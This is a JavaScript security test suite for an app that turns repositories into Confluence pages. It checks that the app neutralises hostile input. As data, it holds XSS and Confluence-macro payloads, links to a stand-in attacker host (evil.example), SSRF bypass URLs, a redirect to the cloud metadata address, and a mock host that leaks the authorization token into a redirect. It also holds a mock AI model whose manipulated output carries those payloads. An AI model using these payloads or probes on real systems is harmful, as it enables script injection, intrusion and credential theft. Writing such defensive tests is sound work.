// @ts-check
// Attacks from outside on the real app: markup through every name, a model that was talked into things, addresses that
// lead inwards, hosts that repeat what they were sent.

import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { load } from "cheerio";
import { SaxesParser } from "saxes";
import { openCore } from "../../../js/core.js";
import { manualClock } from "../../../js/local/clock.js";
import { git, makeRepository, tempDir } from "../local/with-host.js";
import { PLANTED, canary } from "./canaries.js";
import { hooked, pushOf } from "./hooked.js";

const MARKUP = [
  `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `]]><ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>`,
  `<ac:structured-macro ac:name="include"><ac:parameter ac:name="">Secret</ac:parameter></ac:structured-macro>`, `<style>*{background:url(https://evil.example)}</style>`,
  `<p style="position:fixed" onclick="alert(1)">x</p>`, `<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`, `![x](https://evil.example/pixel.png)`, `[x](data:text/html,<script>alert(1)</script>)`,
  `<ri:user ri:account-id="1"/>`, `<ac:image><ri:url ri:value="https://evil.example/x.png"/></ac:image>`, `<iframe src="https://evil.example"></iframe>`, `{{html}}<b>{html}`, `<![CDATA[`, `&#x3c;script&#x3e;`, `<!--`, `\u202e\u0000\u0008`,
];
/** File systems and Git refuse these in names. @param {string} text */
const named = (text) => text.replace(/[\u0000-\u001f/\\]/g, "").slice(0, 80);
const BRANCH = `x"><svg-onload=alert(1)>`;

function hostileFiles() {
  /** @type {Record<string, string>} */
  const files = { "README.md": `# ${MARKUP[0]}\n\n${MARKUP.join("\n\n").replace(/[\u0000-\u0008]/g, "")}\n` };
  for (const [at, text] of MARKUP.entries()) {
    const plain = text.replace(/[\u0000-\u0008]/g, "");
    files[`src/${named(text)}/mod${at}.rs`] = `//! ${plain}\n\n/// ${plain}\npub fn f${at}() {}\n`;
    files[`lib/m${at}/${named(text)}.py`] = `"""${plain.replaceAll('"', "'")}"""\n\ndef g${at}(x="${plain.replaceAll('"', "'")}"):\n    """${plain.replaceAll('"', "'")}"""\n`;
    files[`web/m${at}.ts`] = `/** ${plain.replaceAll("*/", "")} */\nexport type T${at} = "${plain.replaceAll('"', "'")}";\n`;
  }
  files["package.json"] = JSON.stringify({ name: MARKUP[1], description: MARKUP[2], homepage: "javascript:alert(1)", scripts: { [String(MARKUP[4])]: MARKUP[5] } });
  return files;
}

const MACROS = ["code", "info", "note", "tip", "warning", "panel", "expand", "toc", "children", "status", "excerpt", "anchor", "noformat", "details"];

const OWN_LINK = /^(https:\/\/github\.com\/|#)/;
/** Authors of a repository may link where they like; a reader has to click. */
const ANY_LINK = /^(https?:\/\/|mailto:|#)/;

/** What a page may hold, judged by a parser of its own. @param {string} title @param {string} body @param {RegExp} links */
function assertHarmless(title, body, links) {
  const parser = new SaxesParser({ xmlns: false });
  const names = new Set();
  parser.on("error", (error) => assert.fail(`${title}: ${error.message}`));
  parser.on("opentag", ({ name, attributes }) => {
    names.add(name);
    assert.doesNotMatch(name, /^(script|style|iframe|object|embed|form|input|img|svg|link|meta|base|ri:user|ri:url|ac:image|ac:emoticon)$/i, `${title} holds <${name}>`);
    for (const [attribute, value] of Object.entries(attributes)) {
      assert.doesNotMatch(attribute, /^on/i, `${title}: ${attribute}`);
      if (/href|src|ri:value/.test(attribute)) assert.match(String(value), links, `${title} links to ${value}`);
      if (attribute === "style") assert.doesNotMatch(String(value), /url|expression|position|@import/i, `${title}: style ${value}`);
      if (name === "ac:structured-macro" && attribute === "ac:name") assert.ok(MACROS.includes(String(value)), `${title} holds the macro ${value}`);
    }
  });
  // Confluence's own entities stand for characters; they are no element.
  parser.write(`<page>${body.replace(/&(?!(amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);)\w+;/gi, "x")}</page>`).close();
  return names;
}

/** @param {Awaited<ReturnType<typeof hooked>>} app */
async function pagesOf({ host }) {
  const site = await host.site();
  const own = [...site.pages.values()].filter(({ authorId }) => authorId === host.accountId("app"));
  return Promise.all(own.map(async (page) => ({ title: page.title, body: await site.body(page.id, page.versions.at(-1)?.number ?? 1) })));
}

test("markup in names, documents and commits is text on the page, and an independent parser takes every page", { timeout: 300_000 }, async (t) => {
  const app = await hooked(t, { files: hostileFiles() });
  git(app.repository, "-c", `user.name=${named(String(MARKUP[0]))}`, "-c", "user.email=x@example.com", "commit", "-q", "--allow-empty", "-m", String(MARKUP[3]));
  git(app.repository, "branch", BRANCH);
  const { jobId } = await app.call("docs.save", { ...app.job, repository: { ...app.job.repository, ref: BRANCH } });
  for (const id of [jobId, app.jobId]) {
    await app.call("docs.start", { jobId: id });
    await app.host.queue.idle();
    const { run } = await app.call("docs.status", { jobId: id });
    assert.equal(run.state, "done", JSON.stringify(run));
  }
  const pages = await pagesOf(app);
  for (const { title } of pages) assert.doesNotMatch(title, /[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/, "no title turns its surroundings around");
  assert.ok(pages.length >= 5, String(pages.length));
  for (const { title, body } of pages) assertHarmless(title, body, ANY_LINK);
  assert.ok(pages.some(({ body }) => body.includes("&lt;script&gt;")), "the hostile text is there, as text");
  const { url } = app.host;
  const site = await app.host.site();
  for (const page of site.pages.values()) {
    const shown = await (await fetch(`${url}/wiki/spaces/DOCS/pages/${page.id}?as=writer`)).text();
    const seen = load(shown);
    assert.equal(seen("[onerror], [onclick], [onload], svg, main img, iframe[src*='evil'], a[href^='javascript']").length, 0, `${page.title} is shown as markup`);
    assert.ok(!seen("script").text().includes("alert"), `${page.title} is shown as a script`);
  }
});

test("a model that was talked into things puts no link, picture, script or macro on a page", { timeout: 300_000 }, async (t) => {
  const app = await hooked(t);
  let asked = 0;
  app.host.standIn("api.openai.com", async (request) => {
    asked += 1;
    assert.ok(!(await request.text()).includes(PLANTED));
    const content = `${MARKUP.join("\n\n")}\n\n<ac:link><ri:page ri:content-title="Secret"/></ac:link>\n\n[page](https://evil.example/?q=secret) <https://evil.example>\n\n\`\`\`html\n${MARKUP[0]}\n\`\`\``;
    const output = [{ type: "message", role: "assistant", status: "completed", content: [{ type: "output_text", text: content, annotations: [] }] }];
    return Response.json({ object: "response", status: "completed", output, usage: { input_tokens: 1, output_tokens: 1, total_tokens: 2 } });
  });
  await app.call("admin.setSecret", { name: "ai:openai", value: canary("openai") }, "admin");
  const { jobId } = await app.call("docs.save", { ...app.job, writer: "ai", ai: { provider: "openai", model: `gpt-5<script>`, secret: "ai:openai" } });
  await app.call("docs.start", { jobId });
  await app.host.queue.idle();
  const { run } = await app.call("docs.status", { jobId });
  assert.equal(run.state, "done", JSON.stringify(run));
  assert.ok(asked > 0);
  const pages = await pagesOf(app);
  for (const { title, body } of pages) assertHarmless(title, body, OWN_LINK);
  assert.ok(!JSON.stringify(pages).includes("evil.example\""), "no address of the model's own");
});

test("no field leads inwards: every published bypass is refused when it is configured, and nothing is asked", { timeout: 300_000 }, async (t) => {
  const app = await hooked(t);
  const bypasses = readFileSync(new URL("../../vectors/url_bypasses.txt", import.meta.url), "utf8").split("\n").filter((line) => line && !line.startsWith("# "));
  /** @type {string[]} */
  const asked = [];
  app.host.onCall(({ name, path }) => void (name.startsWith("fetch ") && asked.push(path)));
  const core = openCore();
  // Some bypasses lead to a public name: a site may approve that one, and only the address as a whole is a trick.
  const isPublic = (/** @type {string} */ name) => core.checkUrl(`https://${name}/`, { provider: "selfhosted", allowHosts: [name] }).allowed;
  const host = (/** @type {string} */ url) => url.replace(/^https?:\/\//i, "").split(/[/?#]/)[0];
  for (const url of bypasses) {
    // An approval at the platform changes nothing: the core has its own list.
    const name = host(url) ?? "";
    if (/^[a-z0-9.-]+$/.test(name)) await app.host.approveEgress([name]).catch(() => {});
    if (!isPublic(name)) {
      const secret = await app.ask("admin.setSecret", { name: "git:own", value: "x", host: name }, "admin");
      assert.equal(secret.ok, false, `a secret for ${name}`);
      const approved = await app.ask("admin.approveHost", { host: name, kind: "gitlab" }, "admin");
      assert.equal(approved.ok, false, `an approval of ${name}`);
    }
    for (const provider of ["github", "gitlab"]) {
      const job = { ...app.job, repository: { ...app.job.repository, provider, baseUrl: url } };
      const saved = await app.ask("docs.save", job);
      if (saved.ok) {
        await app.call("docs.start", { jobId: saved.value.jobId });
        await app.host.queue.idle();
        const { run } = await app.call("docs.status", { jobId: saved.value.jobId });
        assert.equal(run.error?.code, "egress_denied", `${url}: ${JSON.stringify(run)}`);
      }
    }
    const ai = { ...app.job, writer: "ai", ai: { provider: "selfhosted", baseUrl: url, model: "m" } };
    const saved = await app.ask("docs.save", ai);
    assert.equal(saved.ok, false, `an AI at ${url}`);
  }
  assert.deepEqual(asked, []);
});

test("a host that repeats the token, redirects inwards or answers garbage gets nothing onto a page, a log or an answer", { timeout: 300_000 }, async (t) => {
  const clock = manualClock(Date.now());
  const app = await hooked(t, { clock });
  /** @type {((request: Request) => Response)[]} */
  const answers = [
    (request) => Response.json({ message: `Bad credentials: ${request.headers.get("authorization")}` }, { status: 401, headers: { "x-echo": request.headers.get("authorization") ?? "" } }),
    (request) => Response.json({ message: request.headers.get("authorization") }, { status: 403 }),
    (request) => new Response(request.headers.get("authorization"), { status: 404 }),
    (request) => new Response(request.headers.get("authorization"), { status: 200 }),
    () => new Response(null, { status: 302, headers: { location: "https://169.254.169.254/latest/meta-data/" } }),
    () => new Response(null, { status: 301, headers: { location: "http://api.github.com/" } }),
    (request) => new Response(null, { status: 307, headers: { location: `https://evil.example/?${request.headers.get("authorization")}` } }),
    () => new Response(new Uint8Array(1_000_000), { status: 200 }),
  ];
  /** @type {string[]} */
  const asked = [];
  app.host.onCall(({ name }) => void (name.startsWith("fetch ") && asked.push(name)));
  for (const answer of answers) {
    app.host.standIn("api.github.com", async (request) => answer(request));
    const probe = await app.ask("docs.probe", { repository: "o/r", spaceKey: "DOCS", secret: "git:github", writer: "outline" });
    const tested = await app.ask("admin.testSecret", { name: "git:github" }, "admin");
    assert.equal(tested.value?.accepted, false, JSON.stringify(tested));
    await app.call("docs.start", { jobId: app.jobId });
    let status = await app.call("docs.status", { jobId: app.jobId });
    // What may pass is tried again minutes later.
    for (let tries = 0; tries < 200 && !["done", "failed"].includes(status.run.state); tries += 1) {
      await sleep(50);
      await clock.advance(20_000);
      status = await app.call("docs.status", { jobId: app.jobId });
    }
    assert.equal(status.run.state, "failed", JSON.stringify(status.run));
    const told = JSON.stringify([probe, tested, status]);
    for (const word of [PLANTED, "evil.example", "169.254", "Bad credentials"]) assert.ok(!told.includes(word), `${word} was told`);
  }
  assert.deepEqual([...new Set(asked)], ["fetch api.github.com"]);
  assert.deepEqual(app.host.leaks(), []);
});

test("a recorded delivery changes nothing: not with another body, another hook or another time", async (t) => {
  const app = await hooked(t);
  const other = join(tempDir(t), "other");
  makeRepository(other, { "a.md": "# A\n" });
  await app.host.addRepository("o", "other", other);
  const { jobId } = await app.call("docs.save", { ...app.job, repository: { ...app.job.repository, name: "other" } });
  const hook = await app.call("docs.saveHook", { jobId });
  await app.call("admin.setSecret", { name: hook.secretName, value: canary("other-hook") }, "admin");
  const recorded = pushOf("o/r");
  assert.equal((await app.deliver("guid", { body: recorded })).status, 202);
  await app.host.queue.idle();
  assert.equal((await app.deliver("guid", { body: recorded })).status, 200, "the same again");
  const elsewhere = app.url.replace(app.hook.path, hook.path);
  const { createHmac } = await import("node:crypto");
  const signature = `sha256=${createHmac("sha256", app.secret).update(recorded).digest("hex")}`;
  const headers = { "content-type": "application/json", "x-github-event": "push", "x-github-delivery": "guid-2", "x-hub-signature-256": signature };
  assert.equal((await fetch(elsewhere, { method: "POST", body: recorded, headers })).status, 401, "at another job's hook");
  assert.equal((await fetch(app.url, { method: "POST", body: recorded.replace("main", "dev"), headers })).status, 401, "with another body");
  const forOther = pushOf("o/other");
  assert.equal((await app.deliver("guid-3", { body: forOther })).text, "nothing to do\n", "a genuine push of another repository");
  writeFileSync(join(other, "b.md"), "# B\n");
});
